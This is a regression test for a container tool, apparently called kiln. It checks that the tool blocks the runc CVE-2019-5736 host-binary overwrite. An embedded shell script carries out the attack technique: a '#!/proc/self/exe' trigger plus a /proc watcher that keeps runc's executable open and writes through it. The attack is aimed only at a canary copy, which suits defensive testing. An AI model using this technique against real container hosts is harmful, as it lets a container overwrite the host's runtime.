/**
 * runc CVE-2019-5736: a process in a container opens the runc binary that is entering the container
 * (`/proc/PID/exe`), waits for it to exit, and writes through the descriptor it kept, replacing the host's runc.
 * The classic trigger: an exec into the container runs `/evil`, a script whose interpreter is `#!/proc/self/exe`,
 * so the kernel would run runc's own binary as the exec'd process, where the container can reach it.
 *
 * kiln executes runc from a sealed in-memory copy (src/sandbox/runc.ts): the interpreter lookup cannot open it
 * from inside the container, and `runc init` itself is not dumpable, so the container never holds a runc binary,
 * and a copy it held could not be written. The attack is aimed at a canary: a copy of runc kiln is told to use
 * (KILN_RUNC), outside every root, so a failed defence damages the canary, not the machine's runc. A control
 * shows the watcher does catch what an exec starts.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createHash } from 'node:crypto';
import { execFileSync } from 'node:child_process';
import { copyFileSync, readFileSync, statSync } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cleanupStale } from '../../../src/sandbox/cleanup.js';
import { kiln } from '../../helpers/kiln-cli.js';

let dir = '';
let root = '';
let canaryRunc = '';
const sha = (p: string) => createHash('sha256').update(readFileSync(p)).digest('hex');
const k = (args: string[]) => kiln(args, { root, env: { KILN_RUNC: canaryRunc, KILN_DAEMON: '0' } });

test.before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kiln-runc-exe-'));
  root = join(dir, 'root');
  canaryRunc = join(dir, 'canary-bin', 'runc');
  execFileSync('mkdir', ['-p', join(dir, 'canary-bin')]);
  copyFileSync(execFileSync('sh', ['-c', 'command -v runc'], { encoding: 'utf8' }).trim(), canaryRunc);
  execFileSync('chmod', ['755', canaryRunc]);
  assert.is((await k(['base', 'busybox'])).code, 0);
});

test.after(async () => {
  await k(['rm', '-f', 'cve-5736']);
  await cleanupStale(root);
  await rm(dir, { recursive: true, force: true });
});

// The container's side: make /evil, then watch for every new process, keep its executable open (a redirection, no
// fork: the window may be the life of a runc process), and when it is runc's binary, wait for it to exit and write
// through the descriptor. `command exec`: a failed redirection of a plain `exec` would end the shell (a runc init
// is not dumpable, so its exe cannot be opened).
const WATCHER = `
printf '#!/proc/self/exe\\n' > /evil && chmod +x /evil
echo READY
seen=" 1 $$ "
while :; do
  for p in /proc/[0-9]*; do
    n=\${p#/proc/}
    case "$seen" in *" $n "*) continue;; esac
    if command exec 3< "$p/exe" 2>/dev/null; then
      seen="$seen$n "
      what=$(readlink /proc/$$/fd/3)
      echo "SAW $what"
      case "$what" in
        *runc*|*memfd*)
          echo "CAUGHT $what"
          while [ -e "$p" ]; do :; done
          if echo PWNED >> /proc/$$/fd/3 2>/tmp/err; then echo WRITE-OK; else echo "WRITE-FAILED $(cat /tmp/err)"; fi;;
      esac
      command exec 3<&-
    fi
  done
done
`;

async function logsUntil(re: RegExp, tries = 100): Promise<string> {
  let logs = '';
  for (let i = 0; i < tries && !re.test(logs); i++) {
    logs = (await k(['logs', 'cve-5736'])).stdout;
    if (!re.test(logs)) await new Promise((r) => setTimeout(r, 100));
  }
  return logs;
}

test('a container cannot reach, keep or write the runc binary that execs into it (CVE-2019-5736)', async () => {
  const before = sha(canaryRunc);
  const size = statSync(canaryRunc).size;
  const run = await k(['run', '-d', '--name', 'cve-5736', 'busybox', 'sh', '-c', WATCHER]);
  assert.is(run.code, 0, run.stderr);
  assert.match(await logsUntil(/READY/), /READY/);
  // The watcher sees what an exec starts: an ordinary command is caught (so a runc would be, were it reachable).
  const sleep = await k(['exec', 'cve-5736', 'sleep', '1']);
  assert.is(sleep.code, 0, sleep.stderr);
  assert.match(await logsUntil(/SAW \/bin\/busybox/), /SAW \/bin\/busybox/);
  // The attack: each exec of /evil asks the kernel to run /proc/self/exe, the runc entering the container. runc
  // runs from a sealed copy outside the container's mounts, which the interpreter lookup cannot open.
  for (let i = 0; i < 5; i++) {
    const evil = await k(['exec', 'cve-5736', '/evil']);
    assert.is.not(evil.code, 0);
    assert.match(evil.stderr, /\/evil: no such file or directory/, evil.stderr);
  }
  const logs = (await k(['logs', 'cve-5736'])).stdout;
  assert.not.match(logs, /CAUGHT|WRITE-/, logs);
  assert.is(statSync(canaryRunc).size, size);
  assert.is(sha(canaryRunc), before, 'the runc binary on the host is unchanged');
});

test.run();
